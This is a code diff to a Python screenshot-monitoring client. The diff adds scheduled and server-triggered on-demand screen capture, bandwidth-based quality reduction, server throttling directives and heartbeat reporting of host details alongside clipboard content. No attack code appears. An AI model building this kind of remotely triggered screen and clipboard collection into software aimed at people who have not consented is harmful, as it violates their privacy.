@@ -8,6 +8,11 @@
 - 图片压缩和优化
 - 上传到服务器
 - 错误处理和重试
+- 执行上传响应中的服务器限流指令（推迟下一次截图、质量上限、跳过未变化画面）
+- 上传受共用的带宽预算限制，需求持续超过预算时降低质量和分辨率
+- 通过共用的上传调度器发送，定时截图让位于违规上报和心跳
+- 服务器请求的立即截图（request_capture）触发调度器立即执行截图任务，以高于心跳的优先级上传，
+  上传请求附带请求ID，统计从收到请求到上传完成的耗时
 """
 
 import io
@@ -16,7 +21,7 @@ import time
 import threading
 import requests
 import platform
-from typing import Optional, Tuple
+from typing import Callable, Dict, List, Optional, Tuple
 from pathlib import Path
 from PIL import Image
 from datetime import datetime
@@ -66,13 +71,36 @@ except ImportError:
 
 from core.config import AppConfig
 from modules.blockchain_detector import BlockchainAddressDetector
+from modules.upload_directives import UploadDirectives
 from utils.system_info import SystemInfoCollector
+from utils.scheduler import Scheduler
+from utils.metrics import LatencyTracker
+from utils.upload_scheduler import (
+    PRIORITY_HEARTBEAT, PRIORITY_ON_DEMAND, PRIORITY_PERIODIC, UploadDropped, UploadScheduler
+)
+
+
+class CaptureRequest:
+    """等待中的立即截图请求"""
+
+    __slots__ = ('request_id', 'requested_at', 'callback')
+
+    def __init__(self, request_id: str, callback: Optional[Callable[[str, bool, float], None]] = None):
+        self.request_id = request_id
+        self.requested_at = time.monotonic()
+        # 上传结束后调用 callback(请求ID, 是否成功, 耗时毫秒)
+        self.callback = callback
 
 
 class ScreenshotManager:
     """屏幕截图管理器"""
     
-    def __init__(self, config: AppConfig, logger, client_id_manager, whitelist_manager=None, violation_reporter=None):
+    # 调度器中的定时截图任务名
+    SCREENSHOT_JOB = 'screenshot'
+    
+    def __init__(self, config: AppConfig, logger, client_id_manager, whitelist_manager=None, violation_reporter=None,
+                 scheduler: Optional[Scheduler] = None, bandwidth=None,
+                 uploader: Optional[UploadScheduler] = None):
         """
         初始化截图管理器
         
@@ -82,14 +110,23 @@ class ScreenshotManager:
             client_id_manager: 客户端ID管理器
             whitelist_manager: 白名单管理器
             violation_reporter: 违规事件上报器
+            scheduler: 共用的定时调度器，为None时使用自己的调度器
+            bandwidth: 共用的上传带宽预算（BandwidthBudget，决定降级档位），为None时不降级
+            uploader: 共用的上传调度器，为None时在截图线程中直接发送（按 bandwidth 限速）
         """
         self.config = config
         self.logger = logger
         self.client_id_manager = client_id_manager
+        self.bandwidth = bandwidth
+        self.uploader = uploader or UploadScheduler(logger, bandwidth)
         self._running = False
         self._stop_event = threading.Event()
         self._last_screenshot_time = 0
         
+        # 定时截图由调度器执行
+        self._owns_scheduler = scheduler is None
+        self.scheduler = scheduler or Scheduler(logger, name="ScreenshotScheduler", max_workers=1)
+        
         # HTTP会话
         self.session = requests.Session()
         self.session.timeout = config.server.timeout
@@ -104,6 +141,25 @@ class ScreenshotManager:
         # 系统信息收集器
         self.system_info = SystemInfoCollector()
 
+        # 心跳元数据中附带的性能指标提供者
+        self._metrics_providers: Dict[str, Callable[[], Dict]] = {}
+
+        # 服务器在上传响应中下发的限流指令，及上一次上传画面的缩略图（判断画面是否变化）
+        self.directives = UploadDirectives(config, logger)
+        self._last_frame: Optional[bytes] = None
+
+        # 等待中的立即截图请求（由下一次截图一并响应）及从收到请求到上传完成的耗时
+        self._capture_requests: List[CaptureRequest] = []
+        self._capture_lock = threading.Lock()
+        self._capture_latency = LatencyTracker()
+        self._capture_stats = {
+            'requests': 0,
+            'rejected': 0,
+            'uploaded': 0,
+            'failed': 0,
+            'slo_breaches': 0
+        }
+
         self.logger.info("截图管理器初始化完成")
     
     def start(self) -> None:
@@ -113,29 +169,18 @@ class ScreenshotManager:
             return
         
         self._running = True
-        self.logger.info("截图管理器已启动")
         
-        # 主循环
-        self.logger.info(f"截图管理器主循环开始，间隔: {self.config.screenshot.interval}秒")
-        while self._running and not self._stop_event.is_set():
-            try:
-                current_time = time.time()
-                time_since_last = current_time - self._last_screenshot_time
-                
-                self.logger.debug(f"检查截图时间: 当前时间={current_time}, 上次截图时间={self._last_screenshot_time}, 间隔={time_since_last}秒")
-                
-                # 检查是否需要截图
-                if time_since_last >= self.config.screenshot.interval:
-                    self.logger.info(f"开始截图，距离上次截图已过 {time_since_last:.1f} 秒")
-                    self._take_and_upload_screenshot()
-                    self._last_screenshot_time = current_time
-                
-                # 短暂休眠
-                time.sleep(1)
-                
-            except Exception as e:
-                self.logger.error(f"截图管理器运行异常: {e}")
-                time.sleep(5)  # 出错后等待5秒再继续
+        # 注册定时截图任务（首次截图由调度器随机分散，截图失败不退避，按正常间隔继续）
+        scheduling = self.config.scheduler
+        self.scheduler.add_job(
+            self.SCREENSHOT_JOB,
+            self._scheduled_screenshot,
+            interval=self.config.screenshot.interval,
+            jitter=scheduling.jitter,
+            initial_delay=None if scheduling.splay else 0
+        )
+        self.scheduler.start()
+        self.logger.info(f"截图管理器已启动，间隔: {self.config.screenshot.interval}秒")
     
     def stop(self) -> None:
         """停止截图管理器"""
@@ -144,6 +189,12 @@ class ScreenshotManager:
         
         self._running = False
         self._stop_event.set()
+        self.scheduler.remove_job(self.SCREENSHOT_JOB)
+        if self._owns_scheduler:
+            self.scheduler.stop()
+        
+        # 未处理的立即截图请求以失败结束
+        self._finish_capture_requests(self._take_capture_requests(), False)
         
         # 关闭HTTP会话
         try:
@@ -153,21 +204,162 @@ class ScreenshotManager:
         
         self.logger.info("截图管理器已停止")
     
-    def _take_and_upload_screenshot(self) -> None:
-        """截取并上传屏幕截图"""
+    def register_metrics_provider(self, name: str, provider: Callable[[], Dict]) -> None:
+        """注册随心跳元数据上报的性能指标
+
+        Args:
+            name: 指标分组名称
+            provider: 返回指标字典的函数
+        """
+        self._metrics_providers[name] = provider
+
+    def _collect_metrics(self) -> Dict:
+        """收集已注册的性能指标，单个提供者失败不影响心跳"""
+        metrics = {}
+        for name, provider in list(self._metrics_providers.items()):
+            try:
+                metrics[name] = provider()
+            except Exception as e:
+                self.logger.debug(f"收集性能指标失败 {name}: {e}")
+        return metrics
+
+    def apply_runtime_config(self, changes: Dict) -> None:
+        """远程配置变化：截图间隔变化时重新安排定时截图（质量和尺寸在每次压缩时读取）"""
+        if 'screenshot.interval' in changes:
+            self.scheduler.set_interval(self.SCREENSHOT_JOB, self.config.screenshot.interval)
+    
+    def _scheduled_screenshot(self) -> None:
+        """定时截图任务（由调度器执行，也由立即截图请求触发）"""
+        capture_requests = self._take_capture_requests()
+        current_time = time.time()
+        if capture_requests:
+            self.logger.info(f"响应 {len(capture_requests)} 个立即截图请求")
+        elif self._last_screenshot_time:
+            self.logger.info(f"开始截图，距离上次截图已过 {current_time - self._last_screenshot_time:.1f} 秒")
+        self._last_screenshot_time = current_time
+        self._take_and_upload_screenshot(capture_requests)
+    
+    # ---------- 立即截图 ----------
+    
+    def request_capture(self, request_id: str,
+                        callback: Optional[Callable[[str, bool, float], None]] = None) -> bool:
+        """服务器请求立即截图：触发调度器立即执行截图任务（不阻塞调用方）
+        
+        正在截图时本次截图结束后再截取一张；等待中的多个请求由同一张截图响应。
+        
+        Args:
+            request_id: 服务器的请求ID，随截图上传
+            callback: 上传结束后调用 callback(请求ID, 是否成功, 耗时毫秒)
+        
+        Returns:
+            是否已接受（未启用、未运行或等待的请求过多时返回False）
+        """
+        settings = self.config.on_demand_capture
+        with self._capture_lock:
+            if not settings.enabled or not self._running:
+                self._capture_stats['rejected'] += 1
+                return False
+            # 服务器重发的同一请求只响应一次
+            if any(request.request_id == request_id for request in self._capture_requests):
+                return True
+            if len(self._capture_requests) >= settings.max_pending:
+                self._capture_stats['rejected'] += 1
+                return False
+            self._capture_requests.append(CaptureRequest(request_id, callback))
+            self._capture_stats['requests'] += 1
+        
+        if not self.scheduler.trigger(self.SCREENSHOT_JOB):
+            self._finish_capture_requests(self._take_capture_requests(), False)
+            return False
+        return True
+    
+    def get_capture_stats(self) -> Dict:
+        """立即截图统计（随心跳上报）"""
+        with self._capture_lock:
+            stats = dict(self._capture_stats, pending=len(self._capture_requests))
+        stats['slo_ms'] = self.config.on_demand_capture.slo_ms
+        stats['latency_ms'] = self._capture_latency.summary()
+        return stats
+    
+    def _take_capture_requests(self) -> List[CaptureRequest]:
+        with self._capture_lock:
+            capture_requests, self._capture_requests = self._capture_requests, []
+        return capture_requests
+    
+    def _finish_capture_requests(self, capture_requests: List[CaptureRequest], success: bool) -> None:
+        """记录立即截图请求的结果和耗时，并通知请求方"""
+        now = time.monotonic()
+        slo_ms = self.config.on_demand_capture.slo_ms
+        for request in capture_requests:
+            latency_ms = (now - request.requested_at) * 1000
+            with self._capture_lock:
+                self._capture_stats['uploaded' if success else 'failed'] += 1
+                if success and latency_ms > slo_ms:
+                    self._capture_stats['slo_breaches'] += 1
+            if success:
+                self._capture_latency.record(latency_ms)
+                if latency_ms > slo_ms:
+                    self.logger.warning(f"立即截图 {request.request_id} 耗时 {latency_ms:.0f}ms，超过目标 {slo_ms}ms")
+            if request.callback:
+                try:
+                    request.callback(request.request_id, success, latency_ms)
+                except Exception as e:
+                    self.logger.error(f"通知立即截图结果失败: {e}")
+    
+    # ---------- 截图和上传 ----------
+    
+    def _take_and_upload_screenshot(self, capture_requests: Optional[List[CaptureRequest]] = None) -> None:
+        """截取并上传屏幕截图
+        
+        Args:
+            capture_requests: 本次截图响应的立即截图请求（优先上传，不跳过未变化的画面）
+        """
+        capture_requests = capture_requests or []
+        success = False
         try:
             self.logger.info("开始截取屏幕...")
             # 截取屏幕
-            screenshot_data = self._capture_screen()
-            if not screenshot_data:
+            screenshot = self._grab_screen()
+            if not screenshot:
                 self.logger.warning("截图失败，跳过本次上传")
                 return
 
+            # 服务器要求跳过未变化的画面时只发送心跳，保持在线状态
+            frame = self._frame_fingerprint(screenshot)
+            if not capture_requests and self.directives.skip_unchanged() and self._is_unchanged(frame):
+                self.logger.info("画面未变化，按服务器指令跳过截图上传")
+                self.directives.count_skipped_frame()
+                self._send_heartbeat()
+                return
+
+            screenshot_data = self._compress_image(screenshot)
             self.logger.info(f"截图成功，数据大小: {len(screenshot_data)} 字节")
-            # 上传截图
+            
+            # 上传截图（一个截图间隔内等不到带宽预算时放弃本次截图，只发送心跳）
+            # 立即截图排在心跳和定时截图之前，不被之后的定时截图替换
             self.logger.info("开始上传截图...")
-            success = self._upload_screenshot(screenshot_data)
+            try:
+                if capture_requests:
+                    success = self.uploader.run(
+                        PRIORITY_ON_DEMAND,
+                        lambda: self._upload_screenshot(screenshot_data, capture_requests),
+                        nbytes=len(screenshot_data),
+                        max_wait=self.config.on_demand_capture.max_wait
+                    )
+                else:
+                    success = self.uploader.run(
+                        PRIORITY_PERIODIC,
+                        lambda: self._upload_screenshot(screenshot_data),
+                        nbytes=len(screenshot_data),
+                        key=self.SCREENSHOT_JOB,
+                        max_wait=self.config.screenshot.interval
+                    )
+            except UploadDropped as e:
+                self.logger.warning(f"跳过本次截图上传: {e.reason}")
+                self._send_heartbeat()
+                return
             if success:
+                self._last_frame = frame
                 self.logger.info("截图上传成功")
             else:
                 self.logger.warning("截图上传失败")
@@ -176,6 +368,9 @@ class ScreenshotManager:
             self.logger.error(f"截图和上传过程异常: {e}")
             import traceback
             self.logger.error(f"异常详情: {traceback.format_exc()}")
+        finally:
+            if capture_requests:
+                self._finish_capture_requests(capture_requests, bool(success))
     
     def _capture_screen(self) -> Optional[bytes]:
         """截取屏幕截图
@@ -183,6 +378,27 @@ class ScreenshotManager:
         Returns:
             压缩后的图片数据，如果失败返回None
         """
+        screenshot = self._grab_screen()
+        if not screenshot:
+            return None
+        
+        try:
+            # 压缩和优化图片
+            compressed_data = self._compress_image(screenshot)
+            
+            self.logger.debug(f"截图成功，压缩后大小: {len(compressed_data)} 字节")
+            return compressed_data
+            
+        except Exception as e:
+            self.logger.error(f"截图失败: {e}")
+            return None
+    
+    def _grab_screen(self) -> Optional[Image.Image]:
+        """截取屏幕图像
+        
+        Returns:
+            PIL图片对象，如果失败返回None
+        """
         try:
             screenshot = None
             
@@ -208,16 +424,24 @@ class ScreenshotManager:
                 self.logger.error("截图失败：无法获取屏幕图像")
                 return None
             
-            # 压缩和优化图片
-            compressed_data = self._compress_image(screenshot)
-            
-            self.logger.debug(f"截图成功，压缩后大小: {len(compressed_data)} 字节")
-            return compressed_data
+            return screenshot
             
         except Exception as e:
             self.logger.error(f"截图失败: {e}")
             return None
     
+    @staticmethod
+    def _frame_fingerprint(image: Image.Image) -> bytes:
+        """32x32 灰度缩略图，用于判断画面是否变化"""
+        return image.convert('L').resize((32, 32), Image.Resampling.BILINEAR).tobytes()
+    
+    def _is_unchanged(self, frame: bytes) -> bool:
+        """与上一次上传的画面相比是否未变化（平均像素差低于阈值）"""
+        if self._last_frame is None or len(self._last_frame) != len(frame):
+            return False
+        difference = sum(abs(a - b) for a, b in zip(frame, self._last_frame)) / len(frame)
+        return difference < self.config.upload_directives.unchanged_threshold
+    
     def _compress_image(self, image: Image.Image) -> bytes:
         """压缩图片
         
@@ -230,8 +454,10 @@ class ScreenshotManager:
         # 获取原始尺寸
         width, height = image.size
         
-        # 计算缩放比例
+        # 计算缩放比例（带宽预算不足时按降级档位缩小）
         max_long_side = self.config.screenshot.max_long_side
+        if self.bandwidth:
+            max_long_side = int(max_long_side * self.bandwidth.resolution_factor())
         if max(width, height) > max_long_side:
             if width > height:
                 new_width = max_long_side
@@ -248,8 +474,14 @@ class ScreenshotManager:
         if image.mode != 'RGB':
             image = image.convert('RGB')
         
-        # 压缩图片
+        # 压缩图片（服务器下发质量上限时取较小值）
         quality = self.config.screenshot.quality
+        quality_cap = self.directives.quality_cap()
+        if quality_cap is not None and quality_cap < quality:
+            quality = quality_cap
+            self.logger.debug(f"按服务器指令降低图片质量: {quality}")
+        if self.bandwidth and self.bandwidth.quality_factor() < 1:
+            quality = max(20, int(quality * self.bandwidth.quality_factor()))
         max_file_size = self.config.screenshot.max_file_size
         
         # 尝试不同的质量设置，直到文件大小满足要求
@@ -305,12 +537,14 @@ class ScreenshotManager:
         
         return compressed_data
     
-    def _upload_screenshot(self, screenshot_data: bytes) -> bool:
+    def _upload_screenshot(self, screenshot_data: bytes,
+                           capture_requests: Optional[List[CaptureRequest]] = None) -> bool:
         """
         上传截图到服务器（使用合并API）
 
         Args:
             screenshot_data: 截图数据
+            capture_requests: 本次截图响应的立即截图请求，请求ID随截图上传
 
         Returns:
             是否上传成功
@@ -333,24 +567,11 @@ class ScreenshotManager:
         }
         
         # 准备表单数据（合并API期望的字段）
-        data = {
-            'clientId': client_id,
-            # 心跳相关字段
-            'ipAddress': self.system_info.get_ip_address(),
-            'hostname': self.system_info.get_computer_name(),
-            'osInfo': self.system_info.get_os_version(),
-            'version': self.config.client.version,
-            'metadata': json.dumps({
-                'platform': 'Python',
-                'capabilities': {
-                    'screenshot': True,
-                    'clipboard_monitor': self.config.clipboard.enabled,
-                    'blockchain_detection': True,
-                    'whitelist_sync': self.config.whitelist.enabled
-                },
-                'timestamp': datetime.now().isoformat()
-            })
-        }
+        data = self._heartbeat_fields(client_id)
+        if capture_requests:
+            data['requestId'] = capture_requests[0].request_id
+            data['metadata']['onDemand'] = {'requestIds': [request.request_id for request in capture_requests]}
+        data['metadata'] = json.dumps(data['metadata'])
 
         # 只在有值时添加可选字段
         if clipboard_content:
@@ -375,6 +596,7 @@ class ScreenshotManager:
                     result = response.json()
                     if result.get('success'):
                         self.logger.debug(f"截图上传成功: {filename}")
+                        self._handle_directives(result)
                         return True
                     else:
                         self.logger.warning(f"服务器返回错误: {result.get('message', '未知错误')}")
@@ -395,6 +617,63 @@ class ScreenshotManager:
         self.logger.error(f"截图上传失败，已重试 {self.config.server.max_retries} 次")
         return False
     
+    def _heartbeat_fields(self, client_id: str) -> Dict:
+        """心跳字段（截图上传和单独心跳共用）"""
+        return {
+            'clientId': client_id,
+            'ipAddress': self.system_info.get_ip_address(),
+            'hostname': self.system_info.get_computer_name(),
+            'osInfo': self.system_info.get_os_version(),
+            'version': self.config.client.version,
+            'metadata': {
+                'platform': 'Python',
+                'capabilities': {
+                    'screenshot': True,
+                    'clipboard_monitor': self.config.clipboard.enabled,
+                    'blockchain_detection': True,
+                    'whitelist_sync': self.config.whitelist.enabled
+                },
+                'metrics': self._collect_metrics(),
+                'timestamp': datetime.now().isoformat()
+            }
+        }
+    
+    def _send_heartbeat(self) -> bool:
+        """只发送心跳（跳过截图上传时保持在线状态和指标上报）
+        
+        Returns:
+            是否发送成功
+        """
+        url = f"{self.config.server.api_base_url}/clients/heartbeat"
+        try:
+            payload = self._heartbeat_fields(self.client_id_manager.get_client_uid())
+            response = self.uploader.run(
+                PRIORITY_HEARTBEAT,
+                lambda: self.session.post(url, json=payload, timeout=self.config.server.timeout)
+            )
+            if response.status_code in [200, 201]:
+                self._handle_directives(response.json())
+                return True
+            self.logger.warning(f"心跳发送失败: HTTP {response.status_code}")
+        except Exception as e:
+            self.logger.warning(f"心跳发送异常: {e}")
+        return False
+    
+    def _handle_directives(self, result: Dict) -> None:
+        """执行响应中的服务器限流指令（顶层或 data 中的 directives）"""
+        if not isinstance(result, dict):
+            return
+        data = result.get('data')
+        directives = result.get('directives')
+        if directives is None and isinstance(data, dict):
+            directives = data.get('directives')
+        if not directives:
+            return
+        
+        applied = self.directives.update(directives)
+        if 'nextCaptureIn' in applied:
+            self.scheduler.reschedule(self.SCREENSHOT_JOB, applied['nextCaptureIn'])
+    
     def _get_clipboard_content(self) -> str:
         """
         获取剪贴板内容